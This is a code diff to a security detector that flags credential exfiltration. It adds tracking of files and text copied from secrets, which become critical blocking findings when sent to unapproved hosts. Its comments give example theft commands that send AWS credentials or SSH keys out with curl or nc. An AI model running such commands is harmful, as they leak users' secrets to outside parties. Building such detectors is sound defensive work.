@@ -1,19 +1,23 @@
 // Data leaving the machine after, or together with, a secret: the sequence gateways cannot see.
+// Taint spreads: a file a secret was copied into carries it, and so do distinctive words of the
+// secret's content (remembered by advanceSession from the redacted Read result).
 import type { Detector, Finding } from '../detector.js';
 import { isAllowedHost, isLocalHost, type Egress } from '../command/egress.js';
 import { secretsAmong } from '../facts.js';
+import { displayPath } from '../paths.js';
 
 const where = (e: Egress) => `${e.host}${e.port !== undefined ? `:${e.port}` : ''}`;
 
 export const exfiltration: Detector = {
   name: 'exfiltration',
   evaluate({ event, facts, session, ctx }) {
-    const remote = facts.egress.filter((e) => !isLocalHost(e.host) && !isAllowedHost(e.host, ctx.egressAllow));
+    const isRemote = (e: Egress) => !isLocalHost(e.host) && !isAllowedHost(e.host, ctx.egressAllow);
+    const remote = facts.egress.filter(isRemote);
     if (remote.length === 0) return [];
     const findings: Finding[] = [];
     // 1. The command itself carries a secret: `curl -d @~/.aws/credentials …`, `cat id_rsa | nc host`.
     const inline = facts.secrets;
-    const piped = facts.pipedToEgress.filter((p) => !isLocalHost(p.egress.host) && !isAllowedHost(p.egress.host, ctx.egressAllow))
+    const piped = facts.pipedToEgress.filter((p) => isRemote(p.egress))
       .flatMap((p) => secretsAmong(p.paths, ctx, event.id).map((s) => ({ s, e: p.egress })));
     const carried = inline.length > 0 ? inline.map((s) => ({ s, e: remote[0]! })) : piped;
     for (const { s, e } of carried) {
@@ -24,17 +28,33 @@ export const exfiltration: Detector = {
         evidence: [event.id], key: `${s.path}->${e.host}`, block: true,
       });
     }
+    // 1b. …or a file a secret was copied into earlier (`cp ~/.aws/credentials /tmp/x`, then `curl -T /tmp/x`).
+    const sentPaths = new Set([...facts.reads, ...facts.pipedToEgress.filter((p) => isRemote(p.egress)).flatMap((p) => p.paths)]);
+    for (const t of session.tainted) {
+      if (!sentPaths.has(t.path)) continue;
+      const e = remote[0]!;
+      const shown = displayPath(t.path, ctx.home);
+      findings.push({
+        rule: 'secret-exfiltration', severity: 'critical', tactic: 'exfiltration', technique: 'T1048',
+        title: `Copy of a secret sent to ${e.host}`,
+        reason: `The command sends ${shown}, which holds a copy of ${t.from}, with ${e.tool} to ${where(e)}, a host outside this machine.`,
+        evidence: [...new Set([...t.eventIds, event.id])], key: `${shown}->${e.host}`, block: true,
+      });
+    }
     if (findings.length > 0) return findings;
     // 2. Taint: the session read a secret earlier, and now talks to an unknown host.
     if (session.secretReads.length === 0) return [];
     const e = remote[0]!;
     const last = session.secretReads[session.secretReads.length - 1]!;
-    const mentionsSecret = session.secretReads.some((r) => event.command?.includes(r.path) || event.command?.includes(r.abs));
+    const command = event.command ?? '';
+    const named = session.secretReads.find((r) => command.includes(r.path) || command.includes(r.abs));
+    const token = named ? undefined : session.secretTokens.find((k) => command.includes(k.token));
+    const carries = token ? `, and the command carries text from ${token.path}` : '';
     return [{
-      rule: 'egress-after-secret-read', severity: mentionsSecret ? 'critical' : 'high', tactic: 'exfiltration', technique: 'T1048',
+      rule: 'egress-after-secret-read', severity: named || token ? 'critical' : 'high', tactic: 'exfiltration', technique: 'T1048',
       title: `Network egress to ${e.host} after reading ${last.label}`,
-      reason: `This session read ${session.secretReads.map((r) => r.path).join(', ')} and now runs ${e.tool} to ${where(e)}, which is neither local nor allowlisted: the secret may be leaving.`,
-      evidence: [...session.secretReads.map((r) => r.eventId), event.id], key: e.host, block: true,
+      reason: `This session read ${session.secretReads.map((r) => r.path).join(', ')} and now runs ${e.tool} to ${where(e)}, which is neither local nor allowlisted${carries}: the secret may be leaving.`,
+      evidence: [...session.secretReads.map((r) => r.eventId), ...(token ? [token.eventId] : []), event.id], key: e.host, block: true,
     }];
   },
 };
